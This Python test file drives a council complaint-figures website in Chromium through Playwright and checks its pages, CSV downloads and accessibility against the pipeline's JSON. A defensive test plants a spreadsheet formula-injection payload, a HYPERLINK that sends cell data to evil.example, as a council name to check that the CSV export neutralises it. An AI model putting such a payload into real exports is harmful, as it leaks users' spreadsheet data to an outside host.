"""The reference site in Chromium over real pipeline output: what it shows is what the JSON says."""

from __future__ import annotations

import csv
import json
import shutil
import time
from collections.abc import Iterator
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page

from annual_review.access.preview import PublicView
from annual_review.store.local import LocalStore

from .browser import GuardedPage, chromium, guarded_page, visible_text
from .conftest import RELEASED, STAGED, Preview, serve

pytestmark = pytest.mark.slow
LATEST = RELEASED[-1]
EMPTY = "2021-22"
GROUPS = {
    "Not for us": ("Incomplete/invalid", "Advice given", "Referred back for local resolution"),
    "Assessed and closed": ("Closed after initial enquiries",),
    "Investigated": ("Upheld", "Not upheld"),
}
NONE = {
    "uphold_rate": "No detailed investigations, so no uphold rate",
    "compliance_rate": "No recommendations were due for compliance in this period",
    "satisfactory_remedy_rate": "No upheld decisions, so no satisfactory remedy rate",
}

BASIS = {  # what each rate is "based on": the numerator, then the denominator counted with its noun
    "uphold_rate": ("upheld of", "detailed investigation"),
    "compliance_rate": ("complied of", "compliance outcome"),
    "satisfactory_remedy_rate": ("remedied before reaching the ombudsman of", "upheld decision"),
}


def counted(n: int, noun: str) -> str:
    return f"{n:,} {noun}" + ("" if n == 1 else "s")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


@pytest.fixture
def guarded(browser: Browser, preview: Preview) -> Iterator[GuardedPage]:
    page = GuardedPage(browser, (preview.url,))
    yield page
    page.close()
    assert page.problems == []


def authorities(store: Path, year: str) -> list[dict[str, Any]]:
    doc = json.loads((store / "public" / year / "json" / "index.json").read_bytes())
    records: list[dict[str, Any]] = doc["authorities"]
    return records


def pick(store: Path) -> dict[str, dict[str, Any]]:
    """Councils that exercise every branch: busy, without investigations, without peers, & and '."""
    records = {a["authority_code"]: a for a in authorities(store, LATEST)}
    peers = [a for a in records.values() if a["peer_group"]]
    return {
        "busiest": max(peers, key=lambda a: (a["investigations"], a["authority_code"])),
        "no investigations": next(a for a in peers if a["investigations"] == 0 and a["decisions_made"] > 0),
        "no peer group": next(a for a in records.values() if not a["peer_group"]),
        "ampersand and apostrophe": records["E07000146"],
        "one compliance outcome": next(a for a in peers if a["compliance_rate"]["denominator"] == 1),
    }


def open_council(page: Page, base: str, code: str, year: str | None = None) -> float:
    """Seconds until the figures (or the page's message) are on screen."""
    started = time.perf_counter()
    page.goto(f"{base}council.html?code={code}" + (f"&year={year}" if year else ""))
    page.wait_for_selector("#figures:not([hidden]), #message:not([hidden])")
    page.wait_for_load_state("networkidle")
    return time.perf_counter() - started


def cells(page: Page, selector: str) -> list[list[str]]:
    rows = page.locator(f"{selector} tbody tr")
    return [[c.strip() for c in rows.nth(i).locator("th, td").all_inner_texts()] for i in range(rows.count())]


def serious_violations(page: Page) -> list[str]:
    results = Axe().run(page)
    return [
        f"{v['id']} ({v['impact']}): {v['help']} at {[n['target'] for n in v['nodes']][:3]}"
        for v in results.response["violations"]
        if v["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize(
    "which",
    ["busiest", "no investigations", "no peer group", "ampersand and apostrophe", "one compliance outcome"],
)
def test_the_council_page_shows_the_figures_of_its_json(
    guarded: GuardedPage, preview: Preview, which: str
) -> None:
    record = pick(preview.store)[which]
    page = guarded.page
    open_council(page, preview.url, record["authority_code"])
    text = visible_text(page)
    assert page.locator("h1").inner_text() == record["authority_name"]
    assert page.title() == f"{record['authority_name']}: annual review figures"

    rates = {row[0]: row[1:] for row in cells(page, "#rates")}
    labels = ["Complaints upheld", "Compliance with recommendations", "Satisfactory remedy by the authority"]
    for label, key in zip(labels, NONE, strict=True):
        figure = record[key]
        own, average = rates[label][0], rates[label][1]
        verb, noun = BASIS[key]
        assert rates[label][2] == f"{figure['numerator']:,} {verb} {counted(figure['denominator'], noun)}"
        assert own == (f"{figure['percent']}%" if figure["percent"] is not None else NONE[key])
        if record["peer_group"]:
            peer = figure["peer_average"]["percent"]
            assert average == (f"{peer}%" if peer is not None else "No average")
        else:
            assert average.startswith("None: ")
    per_100k = record.get("upheld_per_100k")
    row = rates["Upheld decisions per 100,000 residents"]
    assert row[0] == (per_100k["display"] if per_100k else row[0])
    if not per_100k:
        assert row[0].startswith("No population figure")

    if record["decisions_made"]:
        groups = record.get("decisions_by_group") or {
            g: sum(record["decisions_by_outcome"][d] for d in decisions) for g, decisions in GROUPS.items()
        }
        shown = {row[0]: row[1] for row in cells(page, "#dealt")}
        assert shown == {
            **{g: f"{n:,}" for g, n in groups.items()},
            "All decisions": f"{record['decisions_made']:,}",
        }
        assert sum(groups.values()) == record["decisions_made"]
    else:
        assert "were decided in" in text
    if record["peer_group"]:
        plural = record["authority_type"] + "s"
        assert f"Average of {plural}" in page.locator("#among").inner_text()
    else:
        assert "no group of similar authorities" in page.locator("#among").inner_text()
    years = [row[0] for row in cells(page, "#history")]
    expected = [
        y
        for y in RELEASED
        if any(a["authority_code"] == record["authority_code"] for a in authorities(preview.store, y))
    ]
    assert years == expected


def test_the_letter_links_open_the_released_letter(guarded: GuardedPage, preview: Preview) -> None:
    year = RELEASED[0]  # the year rendered with PDFs
    record = next(a for a in authorities(preview.store, year) if a["letter"])
    code = record["authority_code"]
    page = guarded.page
    open_council(page, preview.url, code, year)
    pdf = page.get_by_role("link", name=f"Letter to {record['authority_name']}, {year} (PDF)")
    response = guarded.context.request.get(page.url.rsplit("/", 1)[0] + "/" + pdf.get_attribute("href"))
    assert response.ok
    assert response.body() == (preview.store / "public" / year / "letters" / f"{code}.pdf").read_bytes()
    page.get_by_role("link", name=f"Letter to {record['authority_name']}, {year} (web page)").click()
    page.wait_for_load_state()
    assert page.url == f"{preview.url}{year}/letters/{code}.html"
    assert "Annual Review letter" in page.inner_text("body")


def test_the_csv_holds_the_figures_of_every_year(guarded: GuardedPage, preview: Preview) -> None:
    record = pick(preview.store)["busiest"]
    page = guarded.page
    open_council(page, preview.url, record["authority_code"])
    with page.expect_download() as download:
        page.get_by_role("button", name="Download these figures (CSV)").click()
    assert download.value.suggested_filename == f"{record['authority_code']}-annual-review-figures.csv"
    rows = list(csv.DictReader(Path(download.value.path()).read_text(encoding="utf-8").splitlines()))
    by_year = {
        y: a
        for y in RELEASED
        for a in authorities(preview.store, y)
        if a["authority_code"] == record["authority_code"]
    }
    assert [r["year"] for r in rows] == list(by_year)
    for row in rows:
        figures = by_year[row["year"]]
        assert row["authority_name"] == figures["authority_name"]
        assert int(row["decisions_made"]) == figures["decisions_made"]
        for key in NONE:
            percent = figures[key]["percent"]
            assert row[f"{key}_percent"] == ("" if percent is None else str(percent))
            rate = figures[key]["rate"]
            assert (float(row[key]) if row[key] else None) == rate


FORMULAS = {  # an authority's name as a hostile export could give it, per released year
    RELEASED[0]: "-2+3 Council",
    RELEASED[1]: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
}


@pytest.fixture(scope="module")
def formula_names(pipeline_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Preview]:
    """The released years with one council's name a spreadsheet formula, and one figure negative."""
    root = tmp_path_factory.mktemp("formula-names") / "store"
    shutil.copytree(pipeline_store / "public", root / "public")
    code = pick(pipeline_store)["busiest"]["authority_code"]
    for year, name in FORMULAS.items():
        path = root / "public" / year / "json" / "index.json"
        doc = json.loads(path.read_bytes())
        for record in doc["authorities"]:
            if record["authority_code"] == code:
                record["authority_name"] = name
                record["complaints_received"] = -4  # a figure, not text: written as the number it is
        path.write_text(json.dumps(doc))
    for url in serve(PublicView(LocalStore(root))):
        yield Preview(url, root)


def test_the_csv_starts_no_formula_and_keeps_the_figures(browser: Browser, formula_names: Preview) -> None:
    code = pick(formula_names.store)["busiest"]["authority_code"]
    with guarded_page(browser, formula_names.url) as page:
        open_council(page, formula_names.url, code)
        with page.expect_download() as download:
            page.get_by_role("button", name="Download these figures (CSV)").click()
        text = Path(download.value.path()).read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines()))
    assert {r["year"]: r["authority_name"] for r in rows} == {y: "'" + n for y, n in FORMULAS.items()}
    assert [r["complaints_received"] for r in rows] == ["-4", "-4"]
    assert all(r["authority_code"] == code and not r["authority_type"].startswith("'") for r in rows)
    # text cells quoted whole (no locale's separator splits one), figures bare
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"' in text
    assert all(
        line.startswith(f'"{year}",') for line, year in zip(text.splitlines()[1:], FORMULAS, strict=True)
    )
    assert text.count(",-4,") == 2


def test_the_index_lists_every_authority_and_filters_as_one_types(
    guarded: GuardedPage, preview: Preview
) -> None:
    page = guarded.page
    page.goto(f"{preview.url}index.html")
    page.wait_for_selector("#finder:not([hidden])")
    visible_text(page)
    latest = authorities(preview.store, LATEST)
    links = page.locator("#authorities a")
    assert links.count() == len(latest)
    assert set(links.all_inner_texts()) == {a["authority_name"] for a in latest}
    page.get_by_label("Find an authority by name or code").press_sequentially("kings lynn and")
    shown = page.locator("#authorities li:not([hidden]) a")
    assert shown.all_inner_texts() == ["King's Lynn & West Norfolk Borough Council"]
    assert page.locator("#count").inner_text() == f"1 of {len(latest):,} authorities match"
    shown.first.click()
    page.wait_for_selector("#figures:not([hidden])")
    assert page.url == f"{preview.url}site/council.html?code=E07000146"


def test_switching_year_shows_that_year(guarded: GuardedPage, preview: Preview) -> None:
    page = guarded.page
    page.goto(f"{preview.url}index.html")
    page.wait_for_selector("#finder:not([hidden])")
    page.get_by_role("navigation", name="Released years").get_by_role("link", name=RELEASED[0]).click()
    page.wait_for_selector("#finder:not([hidden])")
    assert page.url.endswith(f"index.html?year={RELEASED[0]}")
    assert page.locator("#authorities a").count() == len(authorities(preview.store, RELEASED[0]))
    assert page.locator("h1").inner_text() == f"Complaints about councils, {RELEASED[0]}"
    page.locator("#authorities a").first.click()
    page.wait_for_selector("#figures:not([hidden])")
    assert f"Figures for {RELEASED[0]}" in page.locator("#lede").inner_text()


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("index.html?year=2031-32", "No figures have been released for 2031-32."),
        ("council.html?code=E07000146&year=2031-32", "No figures have been released for 2031-32."),
        ("council.html?code=Z99999999", "No released year has figures for the authority Z99999999."),
        ("council.html?code=<b>x</b>", "No authority is chosen"),
    ],
)
def test_what_is_not_there_is_said_in_words(
    guarded: GuardedPage, preview: Preview, path: str, message: str
) -> None:
    page = guarded.page
    page.goto(preview.url + path)
    page.wait_for_selector("#message:not([hidden])")
    assert message in visible_text(page)


def test_the_pages_pass_the_accessibility_check(guarded: GuardedPage, preview: Preview) -> None:
    page = guarded.page
    page.goto(f"{preview.url}index.html")
    page.wait_for_selector("#finder:not([hidden])")
    assert serious_violations(page) == []
    for record in pick(preview.store).values():
        open_council(page, preview.url, record["authority_code"])
        assert serious_violations(page) == [], record["authority_code"]


def test_the_page_works_by_keyboard(guarded: GuardedPage, preview: Preview) -> None:
    page = guarded.page
    page.goto(f"{preview.url}index.html")
    page.wait_for_selector("#finder:not([hidden])")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the list of authorities"
    page.locator("#search").focus()
    page.keyboard.type("E07000146")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('href')") == "council.html?code=E07000146"
    page.keyboard.press("Enter")
    page.wait_for_selector("#figures:not([hidden])")
    assert page.locator("h1").inner_text() == "King's Lynn & West Norfolk Borough Council"


def test_screenshots_of_both_editions(guarded: GuardedPage, preview: Preview, artifacts: Path) -> None:
    """Kept for people to look at; the timings beside them are this machine's."""
    record = pick(preview.store)["busiest"]
    page = guarded.page
    timings = {}
    for year in RELEASED:
        timings[year] = open_council(page, preview.url, record["authority_code"], year)
        visible_text(page)
        page.screenshot(path=artifacts / f"council-{record['authority_code']}-{year}.png", full_page=True)
    page.goto(f"{preview.url}index.html")
    page.wait_for_selector("#finder:not([hidden])")
    page.screenshot(path=artifacts / "index.png")
    (artifacts / "timings.json").write_text(json.dumps(timings, indent=1))
    assert max(timings.values()) < 3.0, timings


def test_the_preview_shows_the_staged_year_as_if_released(browser: Browser, staged_preview: Preview) -> None:
    with guarded_page(browser, staged_preview.url) as page:
        page.goto(f"{staged_preview.url}index.html")
        page.wait_for_selector("#finder:not([hidden])")
        assert page.locator("h1").inner_text() == f"Complaints about councils, {STAGED}"
        assert "Preview: this year is staged, not yet released." in visible_text(page)
        nav = page.get_by_role("navigation", name="Released years").get_by_role("link")
        assert nav.all_inner_texts() == [*RELEASED, STAGED]
        assert page.locator("#authorities a").count() == len(
            json.loads((staged_preview.store / "staging" / STAGED / "json" / "index.json").read_bytes())[
                "authorities"
            ]
        )


def one_decimal(value: float) -> str:
    return str(Decimal(value).quantize(Decimal("0.1"), rounding=ROUND_HALF_UP))


def with_section_7(
    record: dict[str, Any], residents: int, average: float, previous: dict[str, Any] | None
) -> dict[str, Any]:
    """A record in contract section 7's shape (as issue 11's JSON will carry it), figures by hand."""
    groups = {g: sum(record["decisions_by_outcome"][d] for d in ds) for g, ds in GROUPS.items()}
    per_100k = None
    if residents:
        rate = record["upheld"] / residents * 100_000
        per_100k = {
            "rate": rate,
            "display": one_decimal(rate),
            "upheld": record["upheld"],
            "residents": residents,
            "source": "ONS mid-2022 population estimates",
            "peer_average": {"rate": average, "display": one_decimal(average)}
            if record["peer_group"]
            else None,
        }
    return {**record, "decisions_by_group": groups, "upheld_per_100k": per_100k, "previous_year": previous}


@pytest.fixture(scope="module")
def edition_2024(pipeline_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Preview]:
    """The latest released year rewritten with section 7's fields: one council with them all, one without."""
    root = tmp_path_factory.mktemp("edition-2024") / "store"
    shutil.copytree(pipeline_store / "public" / "site", root / "public" / "site")
    (root / "public" / LATEST / "json").mkdir(parents=True)
    busiest = pick(pipeline_store)["busiest"]["authority_code"]
    previous = {
        "year": RELEASED[0],
        "uphold_rate": {"rate": 0.64, "percent": 64},
        "compliance_rate": {"rate": None, "percent": None},
        "satisfactory_remedy_rate": {"rate": 0.125, "percent": 13},
        "upheld_per_100k": {"rate": 3.1, "display": "3.1"},
    }
    records = authorities(pipeline_store, LATEST)
    residents = {a["authority_code"]: 20_000 + 1_000 * i for i, a in enumerate(records)}
    residents["E07000146"] = 0  # no population
    means = {
        t: sum(a["upheld"] / residents[a["authority_code"]] * 100_000 for a in group) / len(group)
        for t in {a["authority_type"] for a in records}
        if (group := [a for a in records if a["authority_type"] == t and residents[a["authority_code"]]])
    }
    records = [
        with_section_7(
            a,
            residents[a["authority_code"]],
            means.get(a["authority_type"], 0.0),
            previous if a["authority_code"] == busiest else None,
        )
        for a in records
    ]
    doc = json.loads((pipeline_store / "public" / LATEST / "json" / "index.json").read_bytes())
    (root / "public" / LATEST / "json" / "index.json").write_text(json.dumps({**doc, "authorities": records}))
    (root / "public" / EMPTY / "json").mkdir(parents=True)  # a released year without a single authority
    empty = {**doc, "year": EMPTY, "period": {"from": "2021-04-01", "to": "2022-03-31"}, "authorities": []}
    (root / "public" / EMPTY / "json" / "index.json").write_text(json.dumps(empty))
    years = {y: {"manifest": f"{y}/manifest.json"} for y in (EMPTY, LATEST)}
    index = {"format": 1, "latest": LATEST, "years": years}
    (root / "public" / "releases.json").write_text(json.dumps(index))
    for url in serve(PublicView(LocalStore(root))):
        yield Preview(url, root)


def test_the_2024_edition_figures_read_right(
    browser: Browser, edition_2024: Preview, artifacts: Path
) -> None:
    with guarded_page(browser, edition_2024.url) as page:
        record = next(a for a in authorities(edition_2024.store, LATEST) if a["previous_year"])
        open_council(page, edition_2024.url, record["authority_code"])
        visible_text(page)
        head = page.locator("#rates thead th").all_inner_texts()
        assert head[-1] == f"{RELEASED[0]} (previous year)"
        rates = {row[0]: row[1:] for row in cells(page, "#rates")}
        figure = record["upheld_per_100k"]
        assert rates["Upheld decisions per 100,000 residents"] == [
            figure["display"],
            figure["peer_average"]["display"],
            f"{counted(figure['upheld'], 'upheld decision')}; {figure['residents']:,} residents "
            "(ONS mid-2022 population estimates)",
            "3.1",
        ]
        assert rates["Complaints upheld"][-1] == "64%"
        assert rates["Compliance with recommendations"][-1] == "none due"
        assert rates["Satisfactory remedy by the authority"][-1] == "13%"
        among = page.locator("#among").inner_text()
        assert "Upheld decisions per 100,000 residents" in among and "Average of" in among
        assert page.locator("#among figure").count() == 4  # three rates and the per-100k figure
        page.screenshot(
            path=artifacts / f"council-{record['authority_code']}-{LATEST}-section-7.png", full_page=True
        )

        open_council(page, edition_2024.url, "E07000146")  # no population: the sentence, not a value
        rates = {row[0]: row[1:] for row in cells(page, "#rates")}
        assert rates["Upheld decisions per 100,000 residents"][0].startswith("No population figure")
        visible_text(page)
        assert serious_violations(page) == []


def test_a_year_without_data_says_so(browser: Browser, edition_2024: Preview) -> None:
    with guarded_page(browser, edition_2024.url) as page:
        page.goto(f"{edition_2024.url}index.html?year={EMPTY}")
        page.wait_for_selector("#message:not([hidden])")
        assert f"No authority has figures for {EMPTY}." in visible_text(page)
        open_council(page, edition_2024.url, "E07000146", EMPTY)
        text = visible_text(page)
        assert f"King's Lynn & West Norfolk Borough Council has no figures for {EMPTY}." in text
        assert [row[0] for row in cells(page, "#history")] == [LATEST]
        assert page.get_by_role("navigation", name="Years of this authority").get_by_role(
            "link"
        ).all_inner_texts() == [
            EMPTY,
            LATEST,
        ]
